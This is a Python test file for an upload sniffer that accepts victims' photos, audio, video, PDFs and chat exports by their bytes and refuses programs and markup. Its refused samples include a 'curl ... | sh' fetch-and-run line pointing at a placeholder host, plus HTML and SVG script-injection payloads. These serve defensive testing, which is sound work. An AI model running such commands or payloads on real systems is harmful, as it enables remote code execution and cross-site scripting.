"""An upload is accepted, and labelled, by what its bytes are: the photos, voice notes,
videos, PDFs and chat exports victims send are let in; programs and markup are not."""

from __future__ import annotations

import codecs
import gzip
import io
import struct
import tarfile
import zipfile

import pytest
from PIL import Image

from evidence.sniff import HEAD_SIZE, Sniffed, sniff

ARABIC_CHAT = (
    "[12/03/2024, 22:15:03] Amina: \u0644\u0642\u062f \u0646\u0634\u0631 \u0635\u0648\u0631\u064a"
    " \u0641\u064a \u0627\u0644\u0645\u062c\u0645\u0648\u0639\u0629\n"
    "[12/03/2024, 22:16:41] Inconnu: Si tu ne paies pas, je les envoie \u00e0 ta famille.\n"
)


def sniff_upload(data: bytes) -> Sniffed | None:
    """What the upload view does: pass the first bytes, and say whether that is all."""
    return sniff(data[:HEAD_SIZE], complete=len(data) <= HEAD_SIZE)


def pillow_image(image_format: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 24), (200, 30, 60)).save(out, format=image_format)
    return out.getvalue()


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    """An ISO BMFF 'ftyp' box (size, 'ftyp', major brand, minor version, compatible
    brands), followed by an empty 'mdat' box as in a file just started."""
    body = b"ftyp" + major + b"\x00\x00\x02\x00" + b"".join(compatible)
    return struct.pack(">I", 4 + len(body)) + body + b"\x00\x00\x00\x08mdat"


def ebml_header(doctype: bytes) -> bytes:
    """An EBML header (magic 1A 45 DF A3) as mkvmerge writes it, then a Segment."""
    children = (
        b"\x42\x86\x81\x01"  # EBMLVersion 1
        b"\x42\xf7\x81\x01"  # EBMLReadVersion 1
        b"\x42\xf2\x81\x04"  # EBMLMaxIDLength 4
        b"\x42\xf3\x81\x08"  # EBMLMaxSizeLength 8
        + b"\x42\x82"  # DocType
        + bytes([0x80 | len(doctype)])
        + doctype
        + b"\x42\x87\x81\x04"  # DocTypeVersion 4
        b"\x42\x85\x81\x02"  # DocTypeReadVersion 2
    )
    segment = b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff"  # Segment, unknown size
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(children)]) + children + segment


def ogg_first_page(packet: bytes) -> bytes:
    """An Ogg page (magic "OggS", version 0, beginning of stream) holding one packet.
    The CRC is left at zero: it guards against corruption, not against forgery."""
    header = b"OggS\x00\x02" + bytes(8) + b"\x01\x00\x00\x00" + bytes(4) + bytes(4)
    return header + bytes([1, len(packet)]) + packet


def riff(form: bytes, chunk: bytes) -> bytes:
    """A RIFF container (magic "RIFF", little-endian size, form type) with one chunk."""
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + form + chunk


def whatsapp_export_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:  # magic PK 03 04
        archive.writestr("_chat.txt", ARABIC_CHAT)
        archive.writestr("00000012-PHOTO-2024-03-12-22-15-03.jpg", pillow_image("JPEG"))
    return out.getvalue()


def empty_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w"):  # nothing but the end record, magic PK 05 06
        pass
    return out.getvalue()


OPUS_HEAD = b"OpusHead\x01\x01\x38\x01\x80\xbb\x00\x00\x00\x00\x00"  # mono, 48 kHz
VORBIS_ID = b"\x01vorbis" + bytes(4) + b"\x01\x44\xac\x00\x00" + bytes(12) + b"\xb8\x01"
WAVE_FMT = b"fmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00\x80\x3e\x00\x00\x02\x00\x10\x00"
MP3_FRAME = b"\xff\xfb\x90\x64" + bytes(413)  # sync, MPEG-1 Layer III, 128 kbit/s, 44.1 kHz
ADTS_FRAME = b"\xff\xf1\x50\x80\x02\x1f\xfc" + bytes(9)  # sync, AAC LC, 44.1 kHz, 16 bytes
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"

ALLOWED = [
    pytest.param(pillow_image("JPEG"), "image", "image/jpeg", "jpg", id="jpeg photo"),
    pytest.param(pillow_image("PNG"), "image", "image/png", "png", id="png screenshot"),
    pytest.param(pillow_image("GIF"), "image", "image/gif", "gif", id="gif"),
    pytest.param(pillow_image("WEBP"), "image", "image/webp", "webp", id="webp sticker"),
    pytest.param(pillow_image("BMP"), "image", "image/bmp", "bmp", id="bmp"),
    pytest.param(ftyp(b"heic", b"mif1", b"heic"), "image", "image/heic", "heic", id="heic"),
    pytest.param(ftyp(b"heix", b"mif1", b"heix"), "image", "image/heic", "heic", id="heix"),
    pytest.param(ftyp(b"heim", b"mif1", b"heim"), "image", "image/heic", "heic", id="heim"),
    pytest.param(ftyp(b"heis", b"mif1", b"heis"), "image", "image/heic", "heic", id="heis"),
    pytest.param(
        ftyp(b"hevc", b"msf1", b"hevc"), "image", "image/heic-sequence", "heics", id="hevc"
    ),
    pytest.param(ftyp(b"mif1", b"mif1"), "image", "image/heif", "heif", id="mif1"),
    pytest.param(
        ftyp(b"msf1", b"msf1", b"iso8"), "image", "image/heif-sequence", "heifs", id="msf1"
    ),
    pytest.param(
        ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41"),
        "video",
        "video/mp4",
        "mp4",
        id="mp4 from telegram",
    ),
    pytest.param(ftyp(b"iso5", b"iso6", b"mp41"), "video", "video/mp4", "mp4", id="iso5"),
    pytest.param(ftyp(b"mp42", b"isom", b"mp42"), "video", "video/mp4", "mp4", id="mp4 whatsapp"),
    pytest.param(ftyp(b"dash", b"iso6", b"mp41"), "video", "video/mp4", "mp4", id="dash"),
    pytest.param(ftyp(b"M4V ", b"M4V ", b"mp42", b"isom"), "video", "video/x-m4v", "m4v", id="m4v"),
    pytest.param(ftyp(b"qt  ", b"qt  "), "video", "video/quicktime", "mov", id="iphone mov"),
    pytest.param(ftyp(b"3gp4", b"isom", b"3gp4"), "video", "video/3gpp", "3gp", id="3gp"),
    pytest.param(ftyp(b"3g2a", b"3g2a"), "video", "video/3gpp2", "3g2", id="3g2"),
    pytest.param(ebml_header(b"webm"), "video", "video/webm", "webm", id="webm"),
    pytest.param(ebml_header(b"matroska"), "video", "video/x-matroska", "mkv", id="matroska"),
    pytest.param(
        riff(b"AVI ", b"LIST\x04\x00\x00\x00hdrl"), "video", "video/x-msvideo", "avi", id="avi"
    ),
    # ID3v2.4 tag (magic "ID3"), size 0, then an MPEG frame
    pytest.param(
        b"ID3\x04\x00\x00\x00\x00\x00\x00" + MP3_FRAME,
        "audio",
        "audio/mpeg",
        "mp3",
        id="mp3 with id3",
    ),
    pytest.param(MP3_FRAME * 3, "audio", "audio/mpeg", "mp3", id="mp3 without id3"),
    pytest.param(ftyp(b"M4A ", b"M4A ", b"mp42", b"isom"), "audio", "audio/mp4", "m4a", id="m4a"),
    pytest.param(ftyp(b"M4B ", b"M4B ", b"mp42", b"isom"), "audio", "audio/mp4", "m4b", id="m4b"),
    pytest.param(ADTS_FRAME * 3, "audio", "audio/aac", "aac", id="aac adts"),
    pytest.param(ogg_first_page(OPUS_HEAD), "audio", "audio/ogg", "opus", id="ogg opus"),
    pytest.param(ogg_first_page(VORBIS_ID), "audio", "audio/ogg", "ogg", id="ogg vorbis"),
    pytest.param(riff(b"WAVE", WAVE_FMT), "audio", "audio/wav", "wav", id="wav"),
    pytest.param(b"#!AMR\n\x3c" + bytes(31), "audio", "audio/amr", "amr", id="amr"),
    pytest.param(b"#!AMR-WB\n\x44" + bytes(60), "audio", "audio/amr-wb", "awb", id="amr-wb"),
    # "fLaC", then a last-block STREAMINFO header of 34 bytes
    pytest.param(b"fLaC\x80\x00\x00\x22" + bytes(34), "audio", "audio/flac", "flac", id="flac"),
    pytest.param(PDF, "pdf", "application/pdf", "pdf", id="pdf"),
    pytest.param(ARABIC_CHAT.encode(), "text", "text/plain", "txt", id="utf-8 chat"),
    pytest.param(
        codecs.BOM_UTF8 + ARABIC_CHAT.encode(),
        "text",
        "text/plain",
        "txt",
        id="utf-8 chat with bom",
    ),
    pytest.param(whatsapp_export_zip(), "archive", "application/zip", "zip", id="whatsapp zip"),
    pytest.param(empty_zip(), "archive", "application/zip", "zip", id="empty zip"),
]


@pytest.mark.parametrize(("data", "kind", "mime", "extension"), ALLOWED)
def test_an_allowed_file_is_accepted_and_labelled_by_its_bytes(data, kind, mime, extension):
    assert sniff_upload(data) == Sniffed(kind, mime, extension)


def elf_executable() -> bytes:
    # ELF magic 7F 'E' 'L' 'F', 64-bit little-endian, an x86-64 executable
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(48)


def windows_executable() -> bytes:
    # DOS stub with magic "MZ", e_lfanew at 0x3C pointing to the "PE\0\0" signature
    stub = b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 64)
    return stub + b"PE\x00\x00\x64\x86" + bytes(18) + b"This program cannot be run in DOS mode."


def tar_archive() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:  # "ustar" at offset 257
        info = tarfile.TarInfo("chat.txt")
        info.size = len(b"hello")
        archive.addfile(info, io.BytesIO(b"hello"))
    return out.getvalue()


REFUSED = [
    pytest.param(elf_executable(), id="elf"),
    pytest.param(windows_executable(), id="windows pe"),
    pytest.param(b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24), id="mach-o"),
    pytest.param(b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n", id="shell script"),
    pytest.param(b"\n\n#!/usr/bin/env python3\nimport os\n", id="script after blank lines"),
    pytest.param(b"<!DOCTYPE html>\n<html><body><script>alert(1)</script>", id="html"),
    pytest.param(b"  <HTML><script src=//example.invalid/x.js></script>", id="html spaced"),
    pytest.param(
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', id="svg"
    ),
    pytest.param(codecs.BOM_UTF8 + b"<svg onload=alert(1)/>", id="svg after bom"),
    pytest.param(b'<?xml version="1.0" encoding="UTF-8"?>\n<chat/>', id="xml"),
    pytest.param(
        codecs.BOM_UTF16_LE + '<?xml version="1.0"?><chat/>'.encode("utf-16-le"),
        id="utf-16 xml",
    ),
    pytest.param(b"Rar!\x1a\x07\x01\x00" + bytes(24), id="rar5"),  # RAR 5 magic
    pytest.param(b"Rar!\x1a\x07\x00" + bytes(24), id="rar4"),  # RAR 1.5-4 magic
    pytest.param(b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24), id="7z"),  # 7-Zip magic
    pytest.param(gzip.compress(ARABIC_CHAT.encode()), id="gzip"),  # magic 1F 8B
    pytest.param(tar_archive(), id="tar"),
    # OLE2 compound file magic: .doc, .xls, .ppt, .msi
    pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), id="office binary"),
    pytest.param(bytes(range(256)) * 16, id="unknown binary"),
    pytest.param(b"", id="empty"),
]


@pytest.mark.parametrize("data", REFUSED)
def test_programs_markup_other_archives_and_empty_files_are_refused(data):
    assert sniff_upload(data) is None


def cut_inside_a_character(text: str) -> bytes:
    """The first HEAD_SIZE bytes of a long UTF-8 export of ``text``, ending inside a
    character."""
    for padding in range(4):
        data = (" " * padding + text * 100).encode()
        if data[HEAD_SIZE] & 0xC0 == 0x80:  # the byte after the cut continues a character
            return data[:HEAD_SIZE]
    raise AssertionError("no padding puts the cut inside a character")


def test_an_arabic_chat_export_cut_inside_a_character_is_text():
    head = cut_inside_a_character(ARABIC_CHAT)
    with pytest.raises(UnicodeDecodeError):
        head.decode()  # the head alone is not valid UTF-8...
    # ...but the file goes on: the rest of the character is past the head.
    assert sniff(head, complete=False) == Sniffed("text", "text/plain", "txt")


def test_a_whole_file_ending_inside_a_character_is_refused():
    head = cut_inside_a_character(ARABIC_CHAT)
    assert sniff(head, complete=True) is None


@pytest.mark.parametrize(
    ("bom", "encoding"),
    [(codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be")],
    ids=["little-endian", "big-endian"],
)
def test_a_utf16_chat_export_with_a_byte_order_mark_is_text(bom, encoding):
    data = bom + ARABIC_CHAT.encode(encoding)
    assert sniff_upload(data) == Sniffed("text", "text/plain", "txt")
    long_export = bom + (ARABIC_CHAT * 100).encode(encoding)
    assert sniff(long_export[: HEAD_SIZE - 1], complete=False) == Sniffed(
        "text", "text/plain", "txt"
    )  # a head cut between the two bytes of a character


def test_utf16_without_a_byte_order_mark_is_refused():
    assert sniff_upload(ARABIC_CHAT.encode("utf-16-le")) is None


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        ("R\u00e9ponse \u00e0 l'\u00e9t\u00e9 : arr\u00eate de m'\u00e9crire.\n", "latin-1"),
        ("\u0627\u062a\u0631\u0643\u0646\u064a \u0648\u0634\u0623\u0646\u064a\n", "cp1256"),
    ],
    ids=["latin-1 french", "windows-1256 arabic"],
)
def test_text_in_a_legacy_8_bit_encoding_is_refused(text, encoding):
    data = text.encode(encoding)
    with pytest.raises(UnicodeDecodeError):
        data.decode()  # not UTF-8: every byte could be anything
    assert sniff_upload(data) is None


def test_text_full_of_control_characters_is_refused():
    assert sniff_upload(b"\x1b[2J\x07\x08" * 10 + b"hello\n") is None


def test_a_note_that_starts_with_the_letters_bm_is_text_not_a_bitmap():
    assert sniff_upload(b"BMCE: virement de 500 DH, code 4471\n") == Sniffed(
        "text", "text/plain", "txt"
    )


def test_a_pdf_is_a_pdf_whatever_it_was_called():
    """sniff never sees a name: a PDF uploaded as "photo.jpg" or "chat.txt" is still
    sealed as a PDF, and a JPEG uploaded as "statement.pdf" is still a JPEG."""
    assert sniff_upload(PDF) == Sniffed("pdf", "application/pdf", "pdf")
    assert sniff_upload(pillow_image("JPEG")) == Sniffed("image", "image/jpeg", "jpg")


def test_a_pdf_after_a_byte_order_mark_and_blank_lines_is_a_pdf():
    assert sniff_upload(codecs.BOM_UTF8 + b"\r\n \n" + PDF) == Sniffed(
        "pdf", "application/pdf", "pdf"
    )


@pytest.mark.parametrize(
    "prefix",
    [b"<html><body>hello</body></html>\n", b"MZ\x90\x00" + bytes(60), b"x" * 100],
    ids=["html", "windows executable", "junk"],
)
def test_a_pdf_header_behind_other_bytes_is_refused(prefix):
    assert sniff_upload(prefix + PDF) is None


def test_an_mp4_with_an_unknown_major_brand_but_compatible_with_isom_is_video():
    data = ftyp(b"XAVC", b"XAVC", b"isom", b"mp42")
    assert sniff_upload(data) == Sniffed("video", "video/mp4", "mp4")


def test_an_mp4_with_no_brand_we_know_is_refused():
    assert sniff_upload(ftyp(b"XAVC", b"XAVC", b"abcd")) is None


def test_an_iphone_heic_photo_is_an_image():
    data = ftyp(b"heic", b"mif1", b"MiHE", b"MiPr", b"miaf", b"MiHB", b"heic")
    assert sniff_upload(data) == Sniffed("image", "image/heic", "heic")


def test_an_m4a_voice_note_is_audio():
    data = ftyp(b"M4A ", b"M4A ", b"isom", b"iso2")
    assert sniff_upload(data) == Sniffed("audio", "audio/mp4", "m4a")


def test_a_whatsapp_voice_note_is_audio():
    assert sniff_upload(ogg_first_page(OPUS_HEAD)) == Sniffed("audio", "audio/ogg", "opus")


def test_an_ogg_file_of_another_codec_is_refused():
    assert sniff_upload(ogg_first_page(b"\x80theora" + bytes(34))) is None


def test_an_mpeg_sync_with_a_forbidden_bitrate_is_refused():
    assert sniff_upload(b"\xff\xfb\xf0\x64" + bytes(413)) is None


def test_an_ebml_file_that_is_neither_webm_nor_matroska_is_refused():
    assert sniff_upload(ebml_header(b"dvdmenu")) is None


def test_a_word_document_is_accepted_as_an_archive_that_is_never_opened():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as document:
        document.writestr("[Content_Types].xml", "<Types/>")
        document.writestr("word/document.xml", "<w:document/>")
    assert sniff_upload(out.getvalue()) == Sniffed("archive", "application/zip", "zip")
